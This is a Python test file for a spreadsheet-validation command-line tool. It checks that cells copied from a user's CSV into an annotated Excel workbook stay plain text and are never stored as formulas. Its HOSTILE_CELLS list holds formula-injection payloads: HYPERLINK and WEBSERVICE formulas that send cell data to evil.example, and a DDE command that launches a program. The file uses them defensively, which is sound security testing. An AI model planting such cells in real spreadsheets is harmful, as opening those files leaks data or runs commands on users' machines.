"""Trust boundaries, second round (issue 26): copies written from user cells stay text, over-long
cells are kept or named, a closed pipe is quiet, rollup reads the folder it is given — each through
the CLI, on real files."""

from __future__ import annotations

from pathlib import Path

import openpyxl

DAY = "2026-11-22"

# cells a spreadsheet would run: links that call out, a web request with the sheet's data, DDE, sums
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    '=WEBSERVICE("http://evil.example/?d="&A1)',
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
]


def test_the_annotated_copy_of_a_csv_holds_every_cell_as_text(cli, tmp_path):
    rows = ["客户编号,客户名称,联系电话,客户等级,负责人,建档日期,备注"]
    for i, bad in enumerate(HOSTILE_CELLS, start=1):
        quoted = '"' + bad.replace('"', '""') + '"'
        rows.append(f"K{i},{quoted},1380013800{i},B,张伟,2026-03-05,{quoted}")
    src = tmp_path / "客户名录簿.csv"
    src.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "标注.xlsx"
    cli("validate", src, "--as-of", DAY, "--annotate", out, ok=(0, 1))
    wb = openpyxl.load_workbook(out)
    formulas = [
        (ws.title, c.coordinate, c.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    ws = wb["客户名录簿"]
    assert [ws.cell(row=r, column=2).value for r in range(2, 2 + len(HOSTILE_CELLS))] == HOSTILE_CELLS
    assert [ws.cell(row=r, column=7).value for r in range(2, 2 + len(HOSTILE_CELLS))] == HOSTILE_CELLS
    # Excel's own "this is text" mark, so editing such a cell does not turn it into a formula
    assert all(ws.cell(row=r, column=2).quotePrefix for r in range(2, 2 + len(HOSTILE_CELLS)))
    assert not ws["A2"].quotePrefix
